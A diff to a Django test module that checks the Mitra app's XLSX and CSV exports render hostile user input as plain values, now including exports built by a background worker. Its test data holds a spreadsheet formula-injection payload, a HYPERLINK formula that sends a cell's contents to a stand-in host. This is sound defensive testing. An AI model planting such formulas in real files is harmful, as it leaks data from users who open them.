@@ -1,8 +1,9 @@
 """Every XLSX and CSV download opens as plain values, whatever users typed into Mitra.
 
 The exports are found twice: declared below, and by walking the URL patterns for views that
-answer through `mitra.lib.sheets`; the two must agree, so a new export is tested or the suite
-fails. A grep makes sure no module writes a spreadsheet without that module.
+answer through `mitra.lib.sheets` or whose file the worker makes (`@made_by_the_worker`: asked
+for, built by the task, then downloaded); the two must agree, so a new export is tested or the
+suite fails. A grep makes sure no module writes a spreadsheet without that module.
 """
 
 import csv
@@ -13,13 +14,14 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
 from openpyxl import load_workbook
 
 from mitra.cooperations.models import Cooperation
 from mitra.cooperations.services import record_past_state
 from mitra.lib import sheets
 from mitra.staff.tests.helpers import profile, tasks
+from tests.downloads import through_the_worker
 from tests.factories import make_cooperation, make_partner
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -37,6 +39,8 @@ EXPORTS: list[tuple[str, list[str], bool]] = [
     ("reports:xlsx", [], True),
     ("imports:template", [], False),
 ]
+# Files the worker makes that are not spreadsheets.
+NOT_SPREADSHEETS = {"reports:pdf": "the report's PDF (tests/test_long_files_use_the_worker.py)"}
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A3,"Klik")',
     "+62 411 123",
@@ -72,12 +76,15 @@ def _patterns(
 
 
 def test_every_view_answering_with_a_spreadsheet_is_declared_here():
+    patterns = list(_patterns(get_resolver().url_patterns))
     found = {
         name
-        for name, view in _patterns(get_resolver().url_patterns)
+        for name, view in patterns
         if re.search(r"sheets\.(xlsx_response|csv_response|XLSX_TYPE|CSV_TYPE)", _source(view))
     }
-    assert found == {name for name, _args, _hostile in EXPORTS}
+    from_the_worker = {name for name, view in patterns if getattr(view, "made_by_the_worker", 0)}
+    assert found | (from_the_worker - set(NOT_SPREADSHEETS)) == {n for n, _a, _h in EXPORTS}
+    assert set(NOT_SPREADSHEETS) <= from_the_worker
 
 
 def _source(view: object) -> str:
@@ -127,7 +134,9 @@ def _csv_values(content: bytes) -> list[object]:
 def test_every_export_holds_hostile_text_as_plain_values(
     client_as, tenant_admin, hostile_data, name, args, shows_titles
 ):
-    response = client_as(tenant_admin).get(reverse(name, args=args))
+    client, url = client_as(tenant_admin), reverse(name, args=args)
+    worker = getattr(resolve(url).func, "made_by_the_worker", False)
+    response = through_the_worker(client, url) if worker else client.get(url)
     assert response.status_code == 200
     is_csv = response["Content-Type"] == sheets.CSV_TYPE
     values = _csv_values(response.content) if is_csv else _xlsx_values(response.content)
